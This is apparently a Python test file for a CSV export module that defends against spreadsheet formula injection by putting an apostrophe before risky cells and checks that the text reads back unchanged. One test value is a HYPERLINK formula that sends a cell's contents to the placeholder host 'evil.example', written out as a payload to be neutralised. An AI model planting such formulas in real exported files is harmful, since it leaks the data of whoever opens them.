"""CSV that people open in a spreadsheet holds no formula, and reads back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tiltyard.csv_export import guard_cell, restore_cell, write_csv

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("sign", SIGNS)
def test_a_text_that_a_spreadsheet_would_run_begins_with_an_apostrophe(sign: str) -> None:
    """Each sign with which a formula may begin is behind an apostrophe, in a name of a column too."""
    formula = f'{sign}HYPERLINK("http://evil.example/?"&A1)'
    names, row = csv.reader(io.StringIO(write_csv([formula], [[formula]]), newline=""))
    assert names[0] == row[0] == f"'{formula}"


@pytest.mark.parametrize("number", ["-1", "+1", "-3.5e-7", "-12 %".replace(" ", ""), "+1.000,5", "0"])
def test_numbers_stay_numbers(number: str) -> None:
    """A text that is a number is not changed; numbers are not either."""
    assert guard_cell(number) == number
    assert write_csv(["n"], [[-1.5], [None]]) == 'n\r\n-1.5\r\n""\r\n'


@given(st.text())
@example("'=1")
@example("''@x")
@example("'tis")
def test_every_text_reads_back(text: str) -> None:
    """Whatever the text, what was written gives it back."""
    [row] = csv.reader(io.StringIO(write_csv([], [[text, ""]]).removeprefix("\r\n"), newline=""))
    assert restore_cell(row[0]) == text
